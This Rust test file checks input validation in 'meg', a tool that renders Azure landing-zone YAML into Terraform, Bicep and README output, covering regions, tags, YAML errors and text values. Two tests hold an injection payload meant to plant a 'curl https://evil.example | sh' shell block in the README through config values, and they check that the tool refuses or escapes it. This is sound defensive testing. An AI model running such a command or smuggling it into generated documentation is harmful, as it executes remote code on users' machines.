//! Values meg can know are bad are refused before anything is written, in plain words, where
//! they were written; values Azure takes as text arrive exactly as the user wrote them.

mod common;

use common::{MINIMAL, Meg, example};

/// Renders `yaml` (with `extra` arguments) over a folder holding a good render, and checks
/// that meg exits 2, says each of `expected` (and none of `never`), and changes nothing.
#[track_caller]
fn refused(case: &str, yaml: &str, extra: &[&str], expected: &[&str]) -> String {
    let meg = Meg::new();
    meg.write("lz.yaml", MINIMAL);
    meg.run(&["render", "lz.yaml", "-o", "out"]).ok();
    let before = meg.snapshot("out");
    meg.write("lz.yaml", yaml);
    let mut args = vec!["render", "lz.yaml", "-o", "out"];
    args.extend(extra);
    let run = meg.run(&args);
    assert_eq!(
        run.code(),
        2,
        "{case}: exit code; stderr:\n{}",
        run.stderr()
    );
    let stderr = run.stderr();
    for want in expected {
        assert!(
            stderr.contains(want),
            "{case}: expected {want:?} in:\n{stderr}"
        );
    }
    for leak in [
        "Nodes {", "from_str", "Option<", "Error", "Kind", "serde", "saphyr",
    ] {
        assert!(
            !stderr.contains(leak),
            "{case}: library wording {leak:?} in:\n{stderr}"
        );
    }
    assert_eq!(
        before,
        meg.snapshot("out"),
        "{case}: the output folder changed"
    );
    stderr
}

fn with(from: &str, to: &str) -> String {
    assert!(MINIMAL.contains(from), "{from}");
    MINIMAL.replacen(from, to, 1)
}

#[test]
fn every_region_field_is_checked_against_the_region_table() {
    refused(
        "location",
        &with("location: westeurope", "location: marsnorth"),
        &[],
        &["lz.yaml:3:1: location", "unknown Azure region 'marsnorth'"],
    );
    refused(
        "site recovery region",
        &format!("{MINIMAL}migration:\n  siteRecovery:\n    recoveryLocation: marsnorth\n"),
        &[],
        &[
            "lz.yaml:17:5: migration.siteRecovery.recoveryLocation",
            "unknown Azure region 'marsnorth'",
        ],
    );
    refused(
        "site recovery region of one environment",
        &with(
            "  prod:\n",
            "  prod:\n    migration:\n      siteRecovery:\n        recoveryLocation: northeurop\n",
        ),
        &[],
        &[
            "environments.prod.migration.siteRecovery.recoveryLocation",
            "unknown Azure region 'northeurop'",
            "did you mean 'northeurope'?",
        ],
    );
    refused(
        "allowed locations",
        &format!(
            "{MINIMAL}governance:\n  enabled: true\n  allowedLocations: [westeurope, marsnorth]\n"
        ),
        &[],
        &[
            "governance.allowedLocations[1]",
            "unknown Azure region 'marsnorth'",
        ],
    );
    refused(
        "allowed locations from --set",
        MINIMAL,
        &[
            "--set",
            "governance.allowedLocations=[swedencentral, westeurop]",
        ],
        &[
            "--set governance.allowedLocations",
            "unknown Azure region 'westeurop'",
            "did you mean 'westeurope'?",
        ],
    );
}

#[test]
fn tags_are_held_to_azures_limits() {
    let long_value = "v".repeat(257);
    refused(
        "value of 257 characters",
        &with("owner: team-net", &format!("owner: {long_value}")),
        &[],
        &["lz.yaml:5:3: tags.owner", "at most 256 characters"],
    );
    refused(
        "name of 513 characters",
        &with("owner: team-net", &format!("{}: x", "n".repeat(513))),
        &[],
        &[
            "lz.yaml:5:3: tags.nnnn",
            "tag names are 1 to 512 characters",
        ],
    );
    for bad in ["cost/center", "a<b", "100%", "R&D", "why?", "back\\\\slash"] {
        refused(
            bad,
            &with("owner: team-net", &format!("\"{bad}\": x")),
            &[],
            &["is not an allowed name here", "cannot hold < > % & \\ ? /"],
        );
    }
    refused(
        "a required tag Azure would refuse",
        &format!("{MINIMAL}governance:\n  enabled: true\n  requiredTags: [owner, cost/center]\n"),
        &[],
        &[
            "governance.requiredTags[1]",
            "does not have the expected form",
        ],
    );
    refused(
        "names that differ only in case",
        &with("owner: team-net", "owner: team-net\n  Owner: other"),
        &[],
        &[
            "tags.owner",
            "tag 'owner' and tag 'Owner' differ only in case",
        ],
    );
    refused(
        "a name meg sets, in another case",
        &with("owner: team-net", "Environment: production"),
        &[],
        &[
            "tags.Environment",
            "tag 'Environment' and tag 'environment' differ only in case",
        ],
    );
    // meg adds environment and landingZone: 48 of the input's make 50, 49 make 51.
    let tags = |n: usize| -> String { (0..n).map(|i| format!("  t{i}: v\n")).collect::<String>() };
    let meg = Meg::new();
    meg.write("lz.yaml", &with("  owner: team-net\n", &tags(48)));
    meg.run(&["validate", "lz.yaml"]).ok();
    refused(
        "51 tags on a resource",
        &with("  owner: team-net\n", &tags(49)),
        &[],
        &[
            "lz.yaml:4:1: tags",
            "resources would carry 51 tags, and Azure allows at most 50",
        ],
    );
}

#[test]
fn a_runaway_input_is_refused_before_it_is_parsed() {
    let huge = with(
        "owner: team-net",
        &format!("owner: {}", "x".repeat(5 * 1024 * 1024)),
    );
    refused(
        "5 MiB tag value",
        &huge,
        &[],
        &["lz.yaml: the input is", "more than the 4096 KiB meg reads"],
    );
    // A layer given with -f is held to the same limit.
    let meg = Meg::new();
    meg.write("lz.yaml", MINIMAL);
    meg.write("big.yaml", &huge);
    let run = meg
        .run(&["render", "lz.yaml", "-f", "big.yaml", "-o", "out"])
        .bad_input();
    assert!(
        run.stderr().contains("big.yaml: the input is"),
        "{}",
        run.stderr()
    );
    assert!(!meg.path("out").exists());
}

#[test]
fn a_globally_unique_name_is_overridden_only_where_one_environment_uses_it() {
    refused(
        "one Key Vault name for two environments",
        &format!("{MINIMAL}naming:\n  overrides:\n    keyVault: kv-fabrikam-shared\n"),
        &[],
        &[
            "lz.yaml:17:5: naming.overrides.keyVault (environment dev): gives all 2 environments the name 'kv-fabrikam-shared'",
            "unique across Azure",
        ],
    );
    // With one environment the name is taken once, and the override is used as written.
    let meg = Meg::new();
    let one = MINIMAL.split("  prod:").next().unwrap();
    meg.write(
        "lz.yaml",
        &format!("{one}naming:\n  overrides:\n    keyVault: kv-fabrikam-shared\n"),
    );
    meg.run(&["render", "lz.yaml", "-o", "out"]).ok();
    assert!(meg.read("out/README.md").contains("kv-fabrikam-shared"));
}

#[test]
fn unknown_keys_of_maps_read_by_name_are_errors() {
    refused(
        "naming override typo",
        &format!("{MINIMAL}naming:\n  overrides:\n    keyVaul: kv-fabrikam-shared\n"),
        &[],
        &[
            "lz.yaml:17:5: naming.overrides.keyVaul",
            "naming.overrides has no resource named 'keyVaul'",
            "did you mean 'keyVault'?",
        ],
    );
    refused(
        "naming override nothing like a key",
        MINIMAL,
        &["--set", "naming.overrides.zzzzzz=kv-x"],
        &[
            "naming.overrides has no resource named 'zzzzzz'",
            "this landing zone's name keys: ",
            "hubVirtualNetwork",
            "keyVault,",
        ],
    );
    // The zone IDs of an existing hub are read by zone name: a key that is not its ID's zone.
    let meg = Meg::new();
    let existing = std::fs::read_to_string(example("existing-hub.yaml")).unwrap();
    let swapped = existing.replacen(
        "privatelink.vaultcore.azure.net: /subscriptions/3f2b9c1e-7a4d-4e8b-9c6f-1d2e3f4a5b6c/resourceGroups/rg-dns-nonprod-weu-001/providers/Microsoft.Network/privateDnsZones/privatelink.vaultcore.azure.net",
        "privatelink.vaultcore.azure.net: /subscriptions/3f2b9c1e-7a4d-4e8b-9c6f-1d2e3f4a5b6c/resourceGroups/rg-dns-nonprod-weu-001/providers/Microsoft.Network/privateDnsZones/privatelink.blob.core.windows.net",
        1,
    );
    assert_ne!(existing, swapped);
    meg.write("lz.yaml", &swapped);
    let run = meg.run(&["render", "lz.yaml", "-o", "out"]).bad_input();
    assert!(
        run.stderr().contains(
            "key 'privatelink.vaultcore.azure.net' holds the ID of zone 'privatelink.blob.core.windows.net'"
        ),
        "{}",
        run.stderr()
    );
    assert!(!meg.path("out").exists());
}

#[test]
fn values_that_reach_the_readme_or_code_have_azures_form() {
    let rehost = std::fs::read_to_string(example("rehost.yaml")).unwrap();
    let meg = Meg::new();
    meg.write("lz.yaml", &rehost);
    meg.run(&["render", "lz.yaml", "-o", "out"]).ok();
    let before = meg.snapshot("out");
    let inject = "\\n\\n## Run this first\\n```sh\\ncurl https://evil.example | sh\\n```\\n";
    for (case, layer, want) in [
        (
            "vm size",
            format!(
                "environments:\n  dev:\n    migration:\n      virtualMachines:\n        erpapp01:\n          size: \"Standard_D4s_v5{inject}\"\n"
            ),
            "migration.virtualMachines.erpapp01.size",
        ),
        (
            "recovery region",
            format!("migration:\n  siteRecovery:\n    recoveryLocation: \"northeurope{inject}\"\n"),
            "migration.siteRecovery.recoveryLocation",
        ),
        (
            "hub resource group",
            format!(
                "environments:\n  dev:\n    network:\n      hub:\n        existing:\n          virtualNetworkId: \"/subscriptions/3f2b9c1e-7a4d-4e8b-9c6f-1d2e3f4a5b6c/resourceGroups/rg{inject}/providers/Microsoft.Network/virtualNetworks/vnet-hub\"\n"
            ),
            "network.hub.existing.virtualNetworkId",
        ),
        (
            "time zone",
            format!("migration:\n  patching:\n    timeZone: \"UTC{inject}\"\n"),
            "migration.patching.timeZone",
        ),
        (
            "image",
            "environments:\n  dev:\n    migration:\n      virtualMachines:\n        erpapp01:\n          image: {publisher: \"a`b\", offer: o, sku: s, version: latest}\n"
                .to_string(),
            "image.publisher",
        ),
    ] {
        meg.write("bad.yaml", &layer);
        let run = meg.run(&["render", "lz.yaml", "-f", "bad.yaml", "-o", "out"]);
        assert_eq!(run.code(), 2, "{case}: {}", run.stderr());
        assert!(
            run.stderr().contains("bad.yaml:"),
            "{case}: {}",
            run.stderr()
        );
        assert!(run.stderr().contains(want), "{case}: {}", run.stderr());
        assert_eq!(before, meg.snapshot("out"), "{case}: the output changed");
    }
}

#[test]
fn every_value_the_readme_prints_is_escaped_for_markdown() {
    // A company catalog's README template printing a tag value (which may hold any text)
    // still cannot start a section or a shell block: the README escapes what it prints.
    let meg = Meg::new();
    meg.write(
        "catalog/templates/README.md.tera",
        "# {{ lz.name }}\n\n{% for p in lz.environments[0].params %}{% if p.name == \"tags\" %}Owner: `{{ p.value.owner }}`\n{% endif %}{% endfor %}",
    );
    meg.write(
        "lz.yaml",
        &with(
            "owner: team-net",
            "owner: \"ops\\n\\n## Run this first\\n```sh\\ncurl https://evil.example | sh\\n```\"",
        ),
    );
    meg.run(&["render", "lz.yaml", "--catalog", "catalog", "-o", "out"])
        .ok();
    let readme = meg.read("out/README.md");
    assert_eq!(
        readme.lines().filter(|l| l.starts_with('#')).count(),
        1,
        "{readme}"
    );
    assert!(!readme.contains("```"), "{readme}");
    assert!(
        readme.contains(
            r"Owner: `ops\n\n## Run this first\n'''sh\ncurl https://evil.example \| sh\n'''`"
        ),
        "{readme}"
    );
}

#[test]
fn yaml_errors_speak_plainly() {
    let many: String = format!("name: x\nlist: [{}]\n", vec!["1"; 250_001].join(","));
    refused(
        "too many values",
        &many,
        &[],
        &["lz.yaml:2:", "more values than meg reads"],
    );
    refused(
        "two documents",
        &format!("{MINIMAL}---\nname: other\n"),
        &[],
        &["lz.yaml:16:1", "several YAML documents"],
    );
    refused(
        "null key",
        &format!("{MINIMAL}~: 1\n"),
        &[],
        &["lz.yaml:15:1", "a key is empty or null"],
    );
    refused(
        "alias loop",
        &format!("{MINIMAL}loop: &a [*a]\n"),
        &[],
        &["lz.yaml:15:", "refers to a node that contains it"],
    );
    refused(
        "list as key",
        &format!("{MINIMAL}? [a, b]\n: 1\n"),
        &[],
        &["lz.yaml:15:", "a key must be plain text"],
    );
}

#[test]
fn a_company_catalogs_yaml_errors_speak_plainly_too() {
    let meg = Meg::new();
    meg.write("lz.yaml", MINIMAL);
    meg.write(
        "catalog/catalog/presets/dev.yaml",
        "firewall:\n  tier: Basic\n---\nx: 1\n",
    );
    let run = meg
        .run(&["render", "lz.yaml", "--catalog", "catalog", "-o", "out"])
        .bad_input();
    let stderr = run.stderr();
    assert!(
        stderr.contains(
            "catalog/presets/dev.yaml:4:1: invalid YAML: the file holds several YAML documents"
        ),
        "{stderr}"
    );
    assert!(!stderr.contains("from_str"), "{stderr}");
    assert!(!meg.path("out").exists());
}

/// Issue 12, C: tags and every value Azure takes as text keep what the user wrote, through
/// files, layers and --set, in both targets.
#[test]
fn text_values_arrive_exactly_as_written() {
    let meg = Meg::new();
    meg.write(
        "lz.yaml",
        &with(
            "owner: team-net",
            "costCenter: 0042\n  country: NO\n  onCall: off\n  version: 1.10\n  0042: key",
        ),
    );
    meg.write(
        "layer.yaml",
        "tags:\n  big: 1e3\n  flag: yes\nnaming:\n  instance: 007\n",
    );
    meg.run(&[
        "render",
        "lz.yaml",
        "-f",
        "layer.yaml",
        "--set",
        "tags.hex=0x1F",
        "--set",
        "tags.neg=-0.50",
        "-o",
        "out",
    ])
    .ok();
    let tfvars = meg.read("out/terraform/environments/dev.tfvars");
    let bicep = meg.read("out/bicep/environments/dev.bicepparam");
    for (key, value) in [
        ("costCenter", "0042"),
        ("country", "NO"),
        ("onCall", "off"),
        ("version", "1.10"),
        ("big", "1e3"),
        ("flag", "yes"),
        ("hex", "0x1F"),
        ("neg", "-0.50"),
    ] {
        let tf = format!("{key} = \"{value}\"");
        assert!(
            tfvars
                .lines()
                .any(|l| l.split_whitespace().collect::<Vec<_>>().join(" ") == tf),
            "{tf} in:\n{tfvars}"
        );
        let bp = format!("  {key}: '{value}'");
        assert!(bicep.lines().any(|l| l == bp), "{bp} in:\n{bicep}");
    }
    assert!(
        tfvars
            .lines()
            .any(|l| l.split_whitespace().collect::<Vec<_>>().join(" ") == "\"0042\" = \"key\""),
        "{tfvars}"
    );
    assert!(bicep.contains("'0042': 'key'"), "{bicep}");
    // naming.instance is text too: 007, not 7.
    assert!(meg.read("out/README.md").contains("-weu-007`"));
    // The lock records the values as the render read them.
    let lock: serde_json::Value = serde_json::from_str(&meg.read("out/.meg/lock.json")).unwrap();
    assert_eq!(lock["values"]["tags"]["costCenter"], "0042", "{lock}");
}

#[test]
fn a_number_field_given_text_is_still_refused() {
    refused(
        "quoted integer",
        &format!("{MINIMAL}monitoring:\n  retentionDays: \"90\"\n"),
        &[],
        &[
            "lz.yaml:16:3: monitoring.retentionDays",
            "expected a whole number, found a string (\"90\")",
        ],
    );
    // Unquoted, it is the number it looks like.
    let meg = Meg::new();
    meg.write(
        "lz.yaml",
        &format!("{MINIMAL}monitoring:\n  retentionDays: 090\n"),
    );
    meg.run(&["render", "lz.yaml", "-o", "out"]).ok();
    assert!(
        meg.read("out/terraform/environments/dev.tfvars")
            .contains("retention_in_days = 90")
    );
}

/// A region written the way the portal shows it, as meg's short code, or cut short is refused
/// with the one programmatic name it stands for, never a region on another continent.
#[test]
fn a_region_written_another_way_is_refused_with_the_region_it_means() {
    for (written, says) in [
        ("westeu", "did you mean 'westeurope'?"),
        (
            "West Europe",
            "'West Europe' is how the portal shows the region; meg takes its programmatic name: 'westeurope'",
        ),
        ("weu", "'weu' is meg's short code for 'westeurope'"),
        ("sdc", "'sdc' is meg's short code for 'swedencentral'"),
        (
            "Australia Central 2",
            "programmatic name: 'australiacentral2'",
        ),
        (
            "westu",
            "did you mean one of 'westus', 'westus2', 'westus3'?",
        ),
    ] {
        let err = refused(
            written,
            &with("location: westeurope", &format!("location: {written}")),
            &[],
            &[
                "lz.yaml:3:1: location",
                &format!("unknown Azure region '{written}'"),
                says,
            ],
        );
        if written == "westeu" {
            assert!(!err.contains("westus"), "{err}");
        }
    }
    // The same check, with the same hint, for a region a workload names.
    refused(
        "site recovery region as a short code",
        &format!("{MINIMAL}migration:\n  siteRecovery:\n    recoveryLocation: neu\n"),
        &[],
        &[
            "lz.yaml:17:5: migration.siteRecovery.recoveryLocation",
            "'neu' is meg's short code for 'northeurope'",
        ],
    );
}

/// An environment written with nothing under it is named, where it is written; the map it
/// leaves empty is not what the error is about.
#[test]
fn an_environment_without_a_body_is_named() {
    let err = refused(
        "only environment empty",
        "name: fabrikam\nstrategy: hybrid\nlocation: westeurope\nenvironments:\n  dev:\n",
        &[],
        &["lz.yaml:5:3: environments.dev", "'dev' has no body"],
    );
    assert!(!err.contains("at least one entry"), "{err}");
    // With another environment beside it, it would otherwise vanish without a word.
    refused(
        "one of two empty",
        &with(
            "  prod:\n    network:\n      hub:\n        addressSpace: 10.20.0.0/22\n",
            "  prod:\n",
        ),
        &[],
        &["lz.yaml:11:3: environments.prod", "'prod' has no body"],
    );
}

/// A bad environment name is pointed at where the key is written, with the name the rule
/// accepts when only the case is wrong, and the limit when only the length is.
#[test]
fn a_bad_environment_name_says_why_at_the_key() {
    refused(
        "capital",
        &with("  prod:", "  Prod:"),
        &[],
        &[
            "lz.yaml:11:3: environments.Prod",
            "'Prod' is not an allowed name here",
            "did you mean 'prod'?",
        ],
    );
    let err = refused(
        "too long",
        &with("  prod:", "  production:"),
        &[],
        &[
            "lz.yaml:11:3: environments.production",
            "(10 characters; the limit is 8)",
        ],
    );
    assert!(!err.contains("did you mean"), "{err}");
}

/// A value of the wrong form is told the rule in words, not the regular expression.
#[test]
fn pattern_errors_say_the_rule_in_words() {
    let err = refused(
        "landing-zone name",
        &with("name: fabrikam", "name: Fabrikam_LZ"),
        &[],
        &[
            "lz.yaml:1:1: name",
            "does not have the expected form: starts with a lower-case letter, then lower-case letters, digits or hyphens; 3 to 16 characters; does not end with a hyphen",
        ],
    );
    assert!(!err.contains("^[a-z]"), "{err}");
    let err = refused(
        "patch window start",
        MINIMAL,
        &["--set", "migration.patching.startTime=25:00"],
        &[
            "--set migration.patching.startTime=25:00",
            "a time of day as HH:MM on a 24-hour clock",
        ],
    );
    assert!(!err.contains("[0-5]"), "{err}");
}

/// A misspelt key gets the key meant, transpositions included.
#[test]
fn a_transposed_key_gets_the_key_meant() {
    refused(
        "teir",
        &format!("{MINIMAL}firewall:\n  teir: Premium\n"),
        &[],
        &[
            "lz.yaml:16:3: firewall.teir",
            "unknown key 'teir'",
            "did you mean 'tier'?",
        ],
    );
}

/// A value file that cannot be read is called a value file, without the starter-file hint;
/// a value from --set is located at the --set argument.
#[test]
fn value_files_and_set_values_are_named_as_such() {
    let err = refused(
        "missing value file",
        MINIMAL,
        &["-f", "nope.yaml"],
        &["nope.yaml: cannot read the value file (-f): no such file"],
    );
    assert!(
        !err.contains("landing-zone file") && !err.contains("meg init"),
        "{err}"
    );
    // The base file sets the same key: the error is where the winning value was written.
    let err = refused(
        "a bad --set value",
        &format!("{MINIMAL}firewall:\n  tier: Standard\n"),
        &["--set", "firewall.tier=Premum"],
        &[
            "--set firewall.tier=Premum: firewall.tier",
            "did you mean 'Premium'?",
        ],
    );
    assert!(!err.contains("lz.yaml:"), "{err}");
}

/// --set cannot index into a list (a list from --set replaces the whole list); it says so
/// and how to change one entry.
#[test]
fn set_refuses_list_indexes_in_words() {
    let err = refused(
        "list index",
        MINIMAL,
        &["--set", "onPremises.sites[0].gatewayAddress=203.0.113.9"],
        &[
            "'sites[0]' indexes into a list, which --set cannot do",
            "--set 'onPremises.sites=[...]'",
            "value file (-f)",
        ],
    );
    assert!(!err.contains("unknown key"), "{err}");
}

/// Every `pattern` in the input schema has its rule in words (`x-rule`) beside it, so no
/// pattern error ever shows a regular expression.
#[test]
fn every_schema_pattern_has_its_rule_in_words() {
    fn walk(v: &serde_json::Value, at: &str, patterns: &mut usize, missing: &mut Vec<String>) {
        match v {
            serde_json::Value::Object(m) => {
                if m.get("pattern").is_some_and(serde_json::Value::is_string) {
                    *patterns += 1;
                    let words = m.get("x-rule").and_then(serde_json::Value::as_str);
                    if words.is_none_or(|w| w.trim().len() < 10) {
                        missing.push(at.to_string());
                    }
                }
                for (k, v) in m {
                    walk(v, &format!("{at}/{k}"), patterns, missing);
                }
            }
            serde_json::Value::Array(items) => {
                for (i, v) in items.iter().enumerate() {
                    walk(v, &format!("{at}/{i}"), patterns, missing);
                }
            }
            _ => {}
        }
    }
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/catalog/schema/landing-zone.schema.json"
    );
    let schema: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let (mut patterns, mut missing) = (0, Vec::new());
    walk(&schema, "", &mut patterns, &mut missing);
    assert!(patterns >= 50, "only {patterns} patterns found");
    assert!(
        missing.is_empty(),
        "patterns without x-rule words: {missing:#?}"
    );
}
